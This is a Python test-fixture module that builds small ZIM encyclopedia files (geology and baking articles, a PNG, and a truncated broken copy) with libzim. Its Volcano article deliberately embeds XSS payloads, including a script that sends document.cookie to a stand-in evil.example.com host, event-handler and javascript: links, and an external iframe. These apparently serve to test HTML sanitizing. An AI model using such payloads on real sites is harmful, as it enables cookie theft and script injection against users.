"""ZIM fixtures built by the tests with libzim's Creator: a small encyclopedia with a full-text
index, the same without one (titles only), and broken files."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

DATE = "2026-11-01"


def png(width: int = 2, height: int = 2) -> bytes:
    """A valid RGB PNG of red pixels (made by hand: signature, IHDR, IDAT, IEND)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2,
                                                              0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


PNG = png()

ARTICLES = {
    "home": ("Welcome", "<h1>Welcome</h1><p>A tiny encyclopedia of geology and baking.</p>"
             '<p><a href="Volcano">Volcano</a> · <a href="Sourdough">Sourdough</a></p>'),
    "Volcano": ("Volcano", """<html><head><title>Volcano</title>
<script>alert('head')</script><style>body{color:red}</style>
<link rel="stylesheet" href="https://cdn.example.com/wiki.css"></head>
<body onload="steal()"><h1>Volcano</h1>
<p>A volcano is a rupture in the crust of a planet where molten rock, called magma,
escapes to the surface as lava.</p>
<img src="images/lava.png" alt="lava" onerror="alert(1)">
<img src="https://tracker.example.com/pixel.gif" alt="tracker">
<img src="//cdn.example.com/p.png" alt="protocol-relative">
<h2>Eruptions</h2>
<p>Stratovolcanoes such as Mount Fuji erupt explosively; the eruption column of ash can rise
fifty kilometres. <a href="https://evil.example.com/">external</a>
<a href="javascript:alert(2)">js link</a> <a href="Sourdough" onclick="x()">bread</a>
<a href="/v1/models">server path</a></p>
<script>document.location='https://evil.example.com/'+document.cookie</script>
<iframe src="https://evil.example.com/frame"></iframe>
<h2>Lava lakes</h2><p>Erta Ale in Ethiopia has held a persistent lava lake for decades.</p>
</body></html>"""),
    "Sourdough": ("Sourdough", "<h1>Sourdough</h1><p>Sourdough bread is leavened by a starter "
                  "culture of wild yeast and lactobacilli instead of baker's yeast.</p>"
                  "<h2>Starter</h2><p>Feed the starter flour and water every day; it doubles "
                  "in about eight hours at room temperature.</p>"),
    "Basalt": ("Basalt", "<h1>Basalt</h1><p>Basalt is a fine-grained volcanic rock formed from "
               "the rapid cooling of lava rich in magnesium and iron.</p>"),
}


def make_zim(path: Path, fulltext: bool = True, name: str = "geo_en_all",
             title: str = "Tiny Geology") -> Path:
    """Write the fixture encyclopedia to ``path`` (with or without a full-text index)."""
    from libzim.writer import Creator, Hint, Item, StringProvider

    class Entry(Item):  # type: ignore[misc]
        def __init__(self, path: str, title: str, mimetype: str, content: bytes | str,
                     front: bool) -> None:
            super().__init__()
            self.path, self.title, self.mimetype = path, title, mimetype
            self.content, self.front = content, front

        def get_path(self) -> str:
            return self.path

        def get_title(self) -> str:
            return self.title

        def get_mimetype(self) -> str:
            return self.mimetype

        def get_contentprovider(self) -> StringProvider:
            return StringProvider(self.content)

        def get_hints(self) -> dict[Hint, int]:
            return {Hint.FRONT_ARTICLE: self.front}

    with Creator(str(path)).config_indexing(fulltext, "eng") as c:
        c.set_mainpath("home")
        for key, value in {"Name": name, "Title": title, "Language": "eng", "Date": DATE,
                           "Description": "Test pack", "Creator": "Cove tests",
                           "Publisher": "Cove tests"}.items():
            c.add_metadata(key, value)
        for p, (t, html) in ARTICLES.items():
            c.add_item(Entry(p, t, "text/html", html, front=True))
        c.add_item(Entry("images/lava.png", "", "image/png", PNG, front=False))
        c.add_item(Entry("app.js", "", "application/javascript", "alert(1)", front=False))
        c.add_redirection("Volcanoes", "Volcanoes", "Volcano", {Hint.FRONT_ARTICLE: False})
    return path


def truncated(source: Path, dest: Path) -> Path:
    """``dest``: the first half of the ZIM ``source``."""
    data = source.read_bytes()
    dest.write_bytes(data[: len(data) // 2])
    return dest
